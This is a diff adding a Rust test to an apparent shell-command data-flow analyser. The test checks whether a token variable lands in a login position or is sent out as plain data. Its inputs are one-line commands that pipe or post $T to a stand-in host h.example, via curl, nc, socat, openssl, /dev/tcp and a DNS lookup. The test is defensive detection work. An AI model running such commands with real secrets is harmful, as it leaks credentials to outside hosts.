@@ -1,6 +1,7 @@
 //! Data followed from where it is read to where it is sent.
 
-use super::check;
+use super::super::read;
+use super::{check, origin};
 
 #[test]
 fn pipes_and_redirections() {
@@ -140,6 +141,38 @@ fn pipes_and_redirections() {
             "fetch>h.example runs-fetched ?code",
         ),
     ]);
+}
+
+/// What stands where a service looks for a login is told from what stands anywhere else.
+#[test]
+fn logins_are_told_from_what_is_sent() {
+    let check = |command: &str, expect: &[&str]| {
+        let flows = read(command).flows;
+        let plain = flows.iter().flat_map(|flow| &flow.plain).map(origin);
+        assert_eq!(plain.collect::<Vec<_>>(), expect, "{command}: {flows:?}");
+    };
+    check("curl -H \"A: $T\" h.example", &[]);
+    check("curl -u $T: h.example", &[]);
+    check("curl -b s=$T h.example", &[]);
+    check("curl https://u:$T@h.example/x", &[]);
+    check("curl https://u:$T@h.example/$T", &["$T"]);
+    check("curl -H \"A: $T\" -d $B h.example", &["$B"]);
+    check("curl -d @- h.example <<< $T", &["$T"]);
+    check("curl -A $T h.example", &["$T"]);
+    check("curl h.example/?a=$T", &["$T"]);
+    check("wget --header \"A: $T\" h.example", &[]);
+    check("wget --post-data $T h.example", &["$T"]);
+    check("http h.example A:$T b=$B", &["$B"]);
+    check("http h.example b:=$B", &["$B"]);
+    check("http -a u:$T h.example", &[]);
+    check("echo $T | nc h.example 1", &["$T"]);
+    check("echo $T | socat - TCP:h.example:1", &["$T"]);
+    check("echo $T | openssl s_client -connect h.example:1", &["$T"]);
+    check("echo $T > /dev/tcp/h.example/1", &["$T"]);
+    check("dig $T.h.example", &["$T"]);
+    check("git push https://$T@h.example/r", &[]);
+    check("grpcurl -H \"A: $T\" h.example:1 s", &[]);
+    check("mytool --token $T https://h.example", &[]);
 }
 
 #[test]
